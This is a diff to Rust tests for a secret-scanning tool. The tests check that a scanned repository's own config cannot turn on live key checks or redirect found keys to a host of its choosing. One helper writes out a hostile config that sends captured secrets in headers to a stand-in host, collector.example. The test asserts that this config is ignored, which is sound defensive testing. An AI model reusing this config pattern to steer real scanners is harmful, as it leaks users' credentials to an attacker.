@@ -182,7 +182,9 @@ fn keyhound(dir: &Path) -> Command {
         .env_remove("ALL_PROXY")
         .env_remove("all_proxy")
         .env_remove("HTTP_PROXY")
-        .env_remove("http_proxy");
+        .env_remove("http_proxy")
+        // Never the real user's config file (`XDG_CONFIG_HOME` must be absolute to count).
+        .env("XDG_CONFIG_HOME", dir.join(".no-such-config-dir"));
     cmd
 }
 
@@ -616,7 +618,35 @@ fn endpoints_are_https_or_loopback_and_name_a_checked_rule() {
 }
 
 #[test]
-fn endpoints_can_come_from_the_config_file_and_are_announced() {
+fn endpoints_from_the_users_config_are_announced_even_with_quiet() {
+    // Failed before: -q hid the notice of where keys are sent.
+    let key = pc_key("Vq8Zr3LxW1mTn6KpB2sY");
+    let mock = Mock::start(|_, _| json(200, r#"{"data": []}"#));
+    let dir = tree(&[("a.env", format!("KEY={key}\n"))]);
+    let config = tree(&[(
+        "mine.toml",
+        format!(
+            "[verify]\nendpoints = {{ \"{PC_RULE}\" = \"{}\" }}\n",
+            mock.url()
+        ),
+    )]);
+    let config = config.path().join("mine.toml");
+    let (_, verdicts, stderr) = scan_json(
+        dir.path(),
+        &["--verify", "-q", "--config", config.to_str().unwrap()],
+    );
+    assert_eq!(verdicts["a.env"].0, "valid", "{stderr}");
+    assert!(
+        stderr.contains(&format!("live checks of `{PC_RULE}` go to {}", mock.url())),
+        "{stderr}"
+    );
+    assert_eq!(mock.count(&key), 1);
+}
+
+#[test]
+fn repository_config_cannot_turn_live_checks_on_or_move_them() {
+    // Failed before: the scanned tree's own .keyhound.toml sent its key to a host of its choice
+    // without --verify.
     let key = pc_key("Vq8Zr3LxW1mTn6KpB2sY");
     let mock = Mock::start(|_, _| json(200, r#"{"data": []}"#));
     let dir = tree(&[
@@ -624,18 +654,151 @@ fn endpoints_can_come_from_the_config_file_and_are_announced() {
         (
             ".keyhound.toml",
             format!(
-                "[verify]\nendpoints = {{ \"{PC_RULE}\" = \"{}\" }}\n",
+                "[verify]\nenabled = true\n\n[verify.endpoints]\n\"{PC_RULE}\" = \"{}\"\n",
                 mock.url()
             ),
         ),
     ]);
-    let (_, verdicts, stderr) = scan_json(dir.path(), &["--verify"]);
-    assert_eq!(verdicts["a.env"].0, "valid", "{stderr}");
+    let (code, verdicts, stderr) = scan_json(dir.path(), &[]);
+    assert_eq!(code, 1, "{stderr}");
+    assert_eq!(verdicts["a.env"].0, "unchecked", "{stderr}");
+    assert_eq!(mock.requests().len(), 0);
     assert!(
-        stderr.contains(&format!("live checks of `{PC_RULE}` go to {}", mock.url())),
+        stderr.contains(".keyhound.toml:2: `[verify] enabled = true` is ignored")
+            && stderr.contains(&format!(
+                ".keyhound.toml:5: `[verify.endpoints] {PC_RULE}` is ignored"
+            )),
         "{stderr}"
     );
+    // With --verify the check goes to the rule's own host (a dry run: nothing leaves).
+    let out = keyhound(dir.path())
+        .args(["scan", ".", "--verify-dry-run"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("would send GET https://api.politicalcomms.com/v1/organizations"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("127.0.0.1"), "{stderr}");
+}
+
+#[test]
+fn the_users_own_config_may_turn_live_checks_on_and_says_so_even_with_quiet() {
+    let key = pc_key("Vq8Zr3LxW1mTn6KpB2sY");
+    let mock = Mock::start(|_, _| json(200, r#"{"data": []}"#));
+    let dir = tree(&[("a.env", format!("KEY={key}\n"))]);
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("keyhound/config.toml");
+    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
+    std::fs::write(
+        &config,
+        format!(
+            "[verify]\nenabled = true\nendpoints = {{ \"{PC_RULE}\" = \"{}\" }}\n",
+            mock.url()
+        ),
+    )
+    .unwrap();
+    let out = keyhound(dir.path())
+        .env("XDG_CONFIG_HOME", home.path())
+        .args(["scan", ".", "--format", "json", "-q"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report[0]["verdict"], "valid", "{stderr}");
     assert_eq!(mock.count(&key), 1);
+    assert!(
+        stderr.contains("live checks are on (set in")
+            && stderr.contains("config.toml:2")
+            && stderr.contains(&format!("live checks of `{PC_RULE}` go to {}", mock.url())),
+        "{stderr}"
+    );
+}
+
+/// Repository config that reuses a built-in rule's id, and adds a rule with a live check, both
+/// pointing at a host of the repository's choosing.
+fn steering_config() -> String {
+    format!(
+        r#"[[rule]]
+id = "{PC_RULE}"
+name = "Political Comms API key"
+keywords = ["pc_live_"]
+regex = '''(pc_live_[A-Za-z0-9]{{20}})'''
+
+[rule.verify]
+url = "https://collector.example/v1/organizations"
+headers = {{ "X-API-Key" = "{{{{ secret }}}}" }}
+
+[[rule]]
+id = "acme-key"
+name = "Acme key"
+keywords = ["acme_"]
+regex = '''(acme_[A-Za-z0-9]{{20}})'''
+
+[rule.verify]
+url = "https://collector.example/v1/acme"
+headers = {{ Authorization = "Bearer {{{{ secret }}}}" }}
+"#
+    )
+}
+
+#[test]
+fn repository_config_cannot_replace_a_built_in_rule_or_give_a_rule_a_check() {
+    // Failed before: a [[rule]] reusing a built-in id replaced it, live check included.
+    let key = pc_key("Vq8Zr3LxW1mTn6KpB2sY");
+    let acme = format!("acme_{}", "Wq8Zr3LxV1mTw6KpN2sY");
+    let dir = tree(&[
+        ("a.env", format!("KEY={key}\nACME={acme}\n")),
+        (".keyhound.toml", steering_config()),
+    ]);
+    let out = keyhound(dir.path())
+        .args(["scan", ".", "--format", "json", "--verify-dry-run"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!stderr.contains("collector.example"), "{stderr}");
+    assert!(
+        stderr.contains("would send GET https://api.politicalcomms.com/v1/organizations"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(&format!(".keyhound.toml:2: rule `{PC_RULE}` is ignored"))
+            && stderr.contains(".keyhound.toml:17: rule `acme-key`: `[rule.verify]` is ignored"),
+        "{stderr}"
+    );
+    // The repository's new rule still finds its keys, unchecked.
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let rules: Vec<&str> = report
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule_id"].as_str().unwrap())
+        .collect();
+    assert!(
+        rules.contains(&"acme-key") && rules.contains(&PC_RULE),
+        "{report}"
+    );
+}
+
+#[test]
+fn a_users_rule_file_cannot_silently_replace_a_built_in_rule() {
+    // Failed before: the rule file's rule replaced the built-in one without a word.
+    let rule = steering_config();
+    let dir = tree(&[
+        ("a.env", "x = 1\n".to_string()),
+        (
+            "mine.toml",
+            rule[..rule.find("[rule.verify]").unwrap()].to_string(),
+        ),
+    ]);
+    keyhound(dir.path())
+        .args(["scan", ".", "--rules", "mine.toml"])
+        .assert()
+        .code(2)
+        .stderr(predicates::str::contains(format!(
+            "mine.toml:2: rule `{PC_RULE}` has the id of the built-in rule in builtin:"
+        )));
 }
 
 /// A user rule whose check sends a second value captured beside the key.
